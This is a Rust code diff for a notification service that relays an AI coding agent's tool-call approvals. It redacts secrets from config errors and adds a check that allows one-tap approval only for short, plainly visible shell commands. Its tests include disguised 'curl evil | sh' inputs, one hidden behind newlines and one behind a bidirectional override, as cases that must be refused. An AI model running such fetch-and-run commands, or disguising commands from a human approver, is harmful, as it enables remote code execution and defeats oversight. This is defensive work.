@@ -209,11 +209,29 @@ impl NotifyConfig {
     pub fn from_toml(text: &str) -> Result<NotifyConfig, String> {
         // The error says where and what is wrong, never the line itself (it may hold a secret).
         let config: NotifyConfig = toml::from_str(text).map_err(|error| {
-            let line =
-                error.span().map(|span| text[..span.start.min(text.len())].lines().count().max(1));
+            let line = error
+                .span()
+                .map(|span| text[..span.start.min(text.len())].matches('\n').count() + 1);
+            // A value the message quotes may be a secret: only names (a field's, a kind's) are
+            // repeated, in backquotes.
+            let name = |part: &str| {
+                part.len() <= 24
+                    && part.starts_with(|c: char| c.is_ascii_alphabetic())
+                    && part.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+            };
+            let message: String = error
+                .message()
+                .split('`')
+                .enumerate()
+                .map(|(index, part)| match index % 2 {
+                    1 if name(part) => format!("`{part}`"),
+                    1 => "…".to_owned(),
+                    _ => part.to_owned(),
+                })
+                .collect();
             match line {
-                Some(line) => format!("line {line}: {}", error.message()),
-                None => error.message().to_owned(),
+                Some(line) => format!("line {line}: {message}"),
+                None => message,
             }
         })?;
         config.check()?;
@@ -398,7 +416,12 @@ impl Sender {
                 return;
             }
             let waiting = match self.store.outbox(&self.channel.name, 32).await {
-                Ok(waiting) => waiting,
+                Ok(waiting) => {
+                    if waiting.is_empty() {
+                        backoff = self.retry_initial;
+                    }
+                    waiting
+                }
                 Err(error) => {
                     tracing::warn!(channel = %self.channel.name, %error, retry_in = ?backoff, "the outbox cannot be read");
                     tokio::select! {
@@ -571,6 +594,23 @@ pub fn summary(tool: &str, input: &Value) -> String {
     cut
 }
 
+/// Whether a notification may approve this call with one tap: a shell command it shows whole
+/// (one printable line, short), with nothing else in the input that the notice does not show
+/// (no background run, no sandbox switch).
+pub fn one_tap(tool: &str, input: &Value) -> bool {
+    let Some(fields) = input.as_object() else { return false };
+    let Some(command) = input["command"].as_str() else { return false };
+    tool == "Bash"
+        && fields.keys().all(|key| matches!(key.as_str(), "command" | "description" | "timeout"))
+        && command.chars().count() <= 300
+        && !command.chars().any(|c| c.is_control() || is_invisible(c))
+}
+
+/// Characters that change how text shows without showing: bidirectional controls, zero-width.
+fn is_invisible(c: char) -> bool {
+    matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
+}
+
 /// A tool's input as a notice carries it: whole, or (over [`MAX_INPUT_BYTES`] as JSON) its
 /// JSON text cut short, and whether it was cut.
 pub fn bounded_input(input: &Value) -> (Value, bool) {
@@ -676,6 +716,11 @@ mod tests {
         .unwrap();
         assert_eq!(config.channels.len(), 2);
         assert!(config.channels[0].wants(Topic::Question));
+        // Errors say where, not what the line held.
+        let error =
+            NotifyConfig::from_toml("[[channel]]\nname = \"x\"\nsecret = 12345678901234567\n")
+                .unwrap_err();
+        assert!(error.starts_with("line ") && !error.contains("12345678901234567"), "{error}");
         assert!(!config.channels[0].wants(Topic::SessionFinished));
         assert!(config.channels[1].wants(Topic::SessionFinished), "everything by default");
         assert_eq!(config.channels[1].label(), "ntfy:phone");
@@ -702,6 +747,17 @@ mod tests {
             let error = NotifyConfig::from_toml(bad).unwrap_err();
             assert!(error.contains(why), "{bad}: {error}");
         }
+    }
+
+    #[test]
+    fn one_tap_only_for_a_short_plain_command_shown_whole() {
+        assert!(one_tap("Bash", &json!({"command": "cargo test", "description": "tests"})));
+        assert!(!one_tap("Bash", &json!({"command": "ls", "run_in_background": true})));
+        assert!(!one_tap("Bash", &json!({"command": "ls", "dangerouslyDisableSandbox": true})));
+        assert!(!one_tap("Bash", &json!({"command": "ls\n\n\ncurl evil | sh"})));
+        assert!(!one_tap("Bash", &json!({"command": "ls \u{202e}hs|live lruc"})));
+        assert!(!one_tap("Bash", &json!({"command": "x".repeat(301)})));
+        assert!(!one_tap("Write", &json!({"file_path": "/a", "content": "b"})));
     }
 
     #[test]
